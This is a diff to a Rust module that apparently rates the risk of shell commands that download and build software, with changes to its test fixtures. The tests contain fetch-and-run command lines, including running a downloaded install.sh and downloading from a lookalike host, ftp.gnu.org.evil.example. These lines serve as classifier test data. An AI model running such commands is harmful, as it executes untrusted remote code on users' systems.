@@ -106,14 +106,12 @@ impl Machine<'_> {
         // `$(curl https://…)`
         let shown = self.unknowns.show(page.trim_end());
         let url = shown.split_whitespace().last().unwrap_or_default().trim_end_matches(')');
+        self.files.push((format!("{}/", path.trim_end_matches('/')), page.trim_end().to_owned()));
         if publishers::is_release_of_sources(url) {
-            // As a clone of it would be.
+            // It is built as a clone of it would be.
             self.released(&path);
-        } else {
-            self.files.push((format!("{}/", path.trim_end_matches('/')), page.trim_end().to_owned()));
-            if self.strange.len() < FOLDERS {
-                self.strange.push(path.clone());
-            }
+        } else if self.strange.len() < FOLDERS {
+            self.strange.push(path.clone());
         }
         if self.cloned.len() < FOLDERS {
             self.cloned.push(path);
@@ -299,8 +297,8 @@ mod tests {
                     "wget https://ftp.gnu.org/gnu/x/x-2.tar.gz && tar xzf x-2.tar.gz && cd x-2 && ./configure && make",
                 ),
                 (Safe, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && make -C x-1"),
-                (Moderate, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && ./x-1/install.sh"),
-                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && sudo ./x-1/install.sh"),
+                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && ./x-1/install.sh"),
+                (High, "curl -L https://github.com/a/x/archive/v1.tar.gz | tar xz && sh < x-1/install.sh"),
                 (High, "curl -L http://ftp.gnu.org/x.tar.gz | tar xz && ./x-1/configure"),
                 (High, "curl -L https://ftp.gnu.org.evil.example/x.tar.gz | tar xz && ./x-1/configure"),
             ],
